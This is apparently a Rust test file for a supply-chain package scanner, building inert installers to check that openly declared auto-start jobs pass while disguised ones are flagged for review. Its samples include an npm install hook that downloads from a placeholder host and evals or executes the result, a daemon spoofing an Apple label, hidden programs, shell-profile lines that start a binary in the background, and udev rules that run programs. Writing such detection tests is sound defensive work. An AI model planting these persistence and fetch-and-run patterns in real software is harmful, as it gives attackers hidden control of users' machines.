//! What an honest package does in the open is told and needs no decision; each thing that the published attacks have and it has not
//! makes it a matter of review again. All inert, as in `make`.

use madang_artefact::{declaration::Declaration, judge, report::Verdict};

use crate::{
    assert_calm, facts,
    make::{macho, pkg, zip},
    report,
};

const FETCH: [&str; 4] = ["_curl_easy_perform", "_posix_spawn", "_chmod", "_system"];

fn job(label: &str, words: &[&str]) -> Vec<u8> {
    let words: String = words.iter().map(|word| format!("<string>{word}</string>")).collect();
    format!(
        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>{label}</string><key>ProgramArguments</key><array>{words}</array><key>RunAtLoad</key><true/></dict></plist>"
    )
    .into_bytes()
}

/// A package of an installer with a job at its place, its program, and a script behind.
fn package(label: &str, program: &str, arguments: &[&str], imports: &[&str], script: &str) -> Vec<u8> {
    let mut words = vec![program];
    words.extend(arguments);
    let place = format!("./Library/LaunchDaemons/{label}.plist");
    let file = format!(".{program}");
    pkg(script, &[(place.as_str(), job(label, &words)), (file.as_str(), macho(&["chart"], imports))])
}

const LABEL: &str = "invalid.chartdesk.agent";
const PROGRAM: &str = "/Library/PrivilegedHelperTools/invalid.chartdesk.agent";
const LOADS: &str = "PLIST=/Library/LaunchDaemons/invalid.chartdesk.agent.plist\nchown root:wheel \"$PLIST\"\nchmod 644 \"$PLIST\"\nlaunchctl bootstrap system \"$PLIST\"\n";

#[test]
fn a_job_of_its_own_in_the_open_is_told() {
    let own = package(LABEL, PROGRAM, &["--daily"], &["_malloc"], LOADS);
    assert_eq!(report(&own).verdict, Verdict::Clear);
    assert!(report(&own).findings.iter().any(|finding| finding.id == "A04"));
    let denied = Declaration { auto_start: Some(false), ..Declaration::default() };
    assert_eq!(judge(&facts(&own), Some(&denied), None).verdict, Verdict::Block);
}

#[test]
fn a_job_that_is_not_its_own_or_not_in_the_open_is_a_matter_of_review() {
    let copies = format!("cp /Library/x/y.plist /Library/LaunchAgents/y.plist\n{LOADS}");
    let hides = format!("chflags hidden {PROGRAM}\n{LOADS}");
    for (what, bytes) in [
        ("somebody else's name", package("com.apple.mdupdate", PROGRAM, &[], &["_malloc"], "")),
        ("no name of the product", package("display.colour", PROGRAM, &[], &["_malloc"], "")),
        ("a word that the program waits for", package(LABEL, PROGRAM, &["Maintain"], &["_malloc"], LOADS)),
        ("an address", package(LABEL, PROGRAM, &["--from=https://a.invalid"], &["_malloc"], LOADS)),
        ("a program that fetches and starts", package(LABEL, PROGRAM, &[], &FETCH, LOADS)),
        ("a hidden program", package(LABEL, "/Library/x/.chartdesk", &[], &["_malloc"], LOADS)),
        ("a program that is not brought", package(LABEL, "/bin/sh", &[], &["_malloc"], LOADS)),
        ("another job beside", package(LABEL, PROGRAM, &[], &["_malloc"], &copies)),
        ("something hidden beside", package(LABEL, PROGRAM, &[], &["_malloc"], &hides)),
    ] {
        assert!(report(&bytes).verdict >= Verdict::Review, "{what}: {:?}", report(&bytes).findings);
    }
}

#[test]
fn a_service_that_people_start_themselves_is_told() {
    let batch = |line: &str| {
        zip(&[("Chart/service.cmd", format!("@echo off\r\nexit /b\r\n{line}\r\n").into_bytes())])
    };
    assert_calm(vec![(
        "on demand",
        batch("sc create ChartDeskData binPath= \"%~dp0ChartDeskData.exe\" start= demand"),
    )]);
    for line in [
        "sc create ChartDeskData binPath= \"%~dp0ChartDeskData.exe\" start= auto",
        "sc create DisplayColour binPath= \"%~dp0ChartDeskData.exe\" start= demand",
        "sc create ChartDeskData binPath= \"cmd /c %~dp0ChartDeskData.exe\" start= demand",
        "sc create ChartDeskData binPath= \"%TEMP%\\ChartDeskData.exe\" start= demand",
    ] {
        assert_eq!(report(&batch(line)).verdict, Verdict::Review, "{line}");
    }
}

#[test]
fn a_hook_that_pins_what_it_fetches_is_told() {
    let digest = "ab".repeat(32);
    let hook = |check: &str| {
        crate::make::npm(
            "node s.js",
            &[(
                "s.js",
                &format!(
                    "const S='{digest}';require('https').get('https://a.invalid/x',b=>{{const sum=require('crypto').createHash('sha256').update(b).digest('hex');{check};require('fs').writeFileSync('x',b)}})"
                ),
            )],
        )
    };
    assert_eq!(report(&hook("if(sum!==S)throw new Error('digest')")).verdict, Verdict::Clear);
    assert_eq!(report(&hook("console.log(sum)")).verdict, Verdict::Review);
    assert_ne!(report(&hook("if(sum!==S)throw 1;eval(b)")).verdict, Verdict::Clear);
    assert_ne!(
        report(&hook("if(sum!==S)throw 1;require('child_process').exec('./x')")).verdict,
        Verdict::Clear
    );
}

#[test]
fn a_form_that_adds_up_is_told() {
    let form = |script: &str| {
        format!("%PDF-1.7\n1 0 obj<</Type/Annot/FT/Tx/T(a)/AA<</C<</S/JavaScript/JS({script})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
            .into_bytes()
    };
    assert_eq!(
        report(&form("event.value = Number\\(this.getField\\('a'\\).value\\) * 2;")).verdict,
        Verdict::Clear
    );
    assert_eq!(report(&form("app.launchURL\\('https://a.invalid'\\)")).verdict, Verdict::Review);
}

#[test]
fn a_line_about_where_programs_are_found_is_told() {
    let installer = |script: &str, beside: &str| {
        zip(&[
            ("install.sh", format!("#!/bin/bash\n{script}\n").into_bytes()),
            (beside, b"#!/bin/sh\n".to_vec()),
        ])
    };
    let adds = "line=\"export PATH=\\\"$HOME/.local/bin:\\$PATH\\\"\"\nprintf '%s\\n' \"$line\" >> \"$HOME/.profile\"";
    assert_eq!(report(&installer(adds, "bin/chart")).verdict, Verdict::Clear);
    let denied = Declaration { auto_start: Some(false), ..Declaration::default() };
    assert_eq!(judge(&facts(&installer(adds, "bin/chart")), Some(&denied), None).verdict, Verdict::Clear);
    // Taking it out again adds nothing.
    let undoes = "sed -i.bak \"/# added by Chart/d\" \"$HOME/.profile\"";
    assert_eq!(report(&installer(undoes, "bin/chart")).verdict, Verdict::Clear);
    for (script, beside) in [
        (adds, "bin/sudo"),
        ("echo 'export PATH=\"$HOME/.cache/x:$PATH\"' >> ~/.profile", "bin/chart"),
        ("echo 'export PATH=\"$HOME/bin:$PATH\"; ~/bin/chart &' >> ~/.profile", "bin/chart"),
        ("printf 'export PATH=\"$HOME/bin:$PATH\" # chart\\n~/bin/chart &\\n' >> ~/.profile", "bin/chart"),
        ("sed -i \"s|^|~/bin/chart \\&;|\" \"$HOME/.profile\"", "bin/chart"),
    ] {
        assert!(report(&installer(script, beside)).verdict >= Verdict::Review, "{script} {beside}");
    }
}

#[test]
fn rules_of_devices_that_start_nothing_are_calm() {
    let driver = |rules: &str| {
        let setup = "#!/bin/sh\ninstall -Dm644 60-chart.rules /etc/udev/rules.d/60-chart.rules\nudevadm control --reload\n";
        zip(&[("chart/setup.sh", setup.into()), ("chart/60-chart.rules", rules.as_bytes().to_vec())])
    };
    let rights = "SUBSYSTEM==\"usb\", ATTRS{idVendor}==\"1209\", MODE=\"0660\", GROUP=\"plugdev\"\n";
    let denied = Declaration { auto_start: Some(false), ..Declaration::default() };
    assert_calm(vec![("rights", driver(rights))]);
    assert_eq!(judge(&facts(&driver(rights)), Some(&denied), None).verdict, Verdict::Clear);
    for start in
        ["RUN+=\"/usr/local/lib/chart/go\"", "ENV{SYSTEMD_WANTS}=\"chart.service\"", "IMPORT{program}=\"go\""]
    {
        let starts = format!("{rights}ACTION==\"add\", {start}\n");
        assert_eq!(report(&driver(&starts)).verdict, Verdict::Review, "{start}");
    }
}
